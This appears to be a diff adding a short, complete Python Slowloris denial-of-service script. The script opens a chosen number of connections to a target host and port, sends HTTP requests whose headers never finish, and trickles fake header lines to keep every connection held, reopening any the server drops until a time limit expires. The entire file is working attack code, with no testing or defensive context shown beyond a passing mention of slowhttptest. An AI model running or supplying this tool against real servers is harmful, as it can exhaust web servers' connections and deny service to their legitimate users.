@@ -1,0 +1,42 @@
+# Slowloris: many connections that start a request and never finish its headers, trickling a
+# header line now and then to look alive.
+# Usage: slowloris.py <host> <port> <connections> <seconds>
+# Prints "<n> held" once every connection is open, then "done" when it lets go.
+import socket
+import sys
+import time
+
+host, port = sys.argv[1], int(sys.argv[2])
+connections, seconds = int(sys.argv[3]), float(sys.argv[4])
+
+
+
+def open_one(i):
+    try:
+        s = socket.create_connection((host, port), timeout=5)
+        s.sendall(('GET /?%d HTTP/1.1\r\nHost: %s\r\n' % (i, host)).encode('latin-1'))
+        return s
+    except OSError:
+        return None
+
+
+clients = [open_one(i) for i in range(connections)]
+print('%d held' % sum(1 for s in clients if s), flush=True)
+
+# like slowhttptest, a connection the server dropped is opened again
+deadline = time.time() + seconds
+n = 0
+while time.time() < deadline:
+    time.sleep(0.5)
+    n += 1
+    for i, s in enumerate(clients):
+        try:
+            s.send(('X-Wait-%d: 1\r\n' % n).encode('latin-1'))
+        except (OSError, AttributeError):
+            if s:
+                s.close()
+            clients[i] = open_one(i)
+for s in clients:
+    if s:
+        s.close()
+print('done', flush=True)
